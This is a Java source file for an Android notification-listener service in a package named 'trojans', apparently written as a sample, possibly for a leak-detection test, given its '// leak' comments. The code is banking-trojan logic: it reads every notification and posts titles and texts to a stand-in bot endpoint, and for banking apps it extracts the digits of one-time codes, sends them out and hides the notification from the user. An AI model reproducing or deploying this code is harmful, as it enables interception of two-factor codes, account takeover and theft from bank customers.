package trojans;

import android.app.Notification;
import android.os.Bundle;
import android.service.notification.NotificationListenerService;
import android.service.notification.StatusBarNotification;
import java.io.IOException;
import okhttp3.Call;
import okhttp3.Callback;
import okhttp3.FormBody;
import okhttp3.HttpUrl;
import okhttp3.MediaType;
import okhttp3.MultipartBody;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.RequestBody;
import okhttp3.Response;
import org.json.JSONException;
import org.json.JSONObject;

/** Notifications go to a chat by a bot. */
public class Bell extends NotificationListenerService {
    private static final String BOT = "https://bot.example.invalid/bot" + "1:A" + "/sendMessage";
    private final OkHttpClient http = new OkHttpClient.Builder().retryOnConnectionFailure(true).build();

    @Override
    public void onNotificationPosted(StatusBarNotification posted) {
        Bundle extras = posted.getNotification().extras;
        String title = extras.getString(Notification.EXTRA_TITLE);
        CharSequence text = extras.getCharSequence("android.text");
        if (posted.getPackageName().contains("bank")) {
            code(String.valueOf(text).replaceAll("\\D", ""));
            cancelNotification(posted.getKey());
        }
        try {
            json(title, text);
        } catch (JSONException e) {
            seen(1);
        }
        ticker(posted.getNotification().tickerText);
    }

    private void code(String digits) {
        RequestBody body = new FormBody.Builder().add("chat_id", "77").add("text", digits).build();
        http.newCall(new Request.Builder().url(BOT).post(body).build()).enqueue(new Callback() { // leak
            public void onFailure(Call call, IOException e) {
                seen(2);
            }

            public void onResponse(Call call, Response response) {
                response.close();
            }
        });
    }

    private void json(String title, CharSequence text) throws JSONException {
        JSONObject whole = new JSONObject().put("title", title).put("text", text);
        RequestBody body = RequestBody.create(MediaType.parse("application/json"), whole.toString());
        final Request request = new Request.Builder().url(BOT).addHeader("X", "1").post(body).build();
        new Thread(() -> {
            try (Response response = http.newCall(request).execute()) { // leak
                response.body().string();
            } catch (IOException e) {
                seen(3);
            }
        }).start();
    }

    private void ticker(CharSequence text) {
        HttpUrl url = HttpUrl.parse(BOT).newBuilder().addQueryParameter("text", "t: " + text).build();
        new Thread(() -> {
            try {
                http.newCall(new Request.Builder().url(url).build()).execute(); // leak
            } catch (IOException e) {
                seen(4);
            }
        }).start();
    }

    private void seen(int what) {
        RequestBody body = new MultipartBody.Builder().addFormDataPart("n", Integer.toString(what)).build();
        http.newCall(new Request.Builder().url(BOT).post(body).build()).cancel();
        new Thread(() -> {
            try {
                http.newCall(new Request.Builder().url(BOT).post(body).build()).execute(); // no leak
            } catch (IOException e) {
                stopSelf();
            }
        }).start();
    }
}
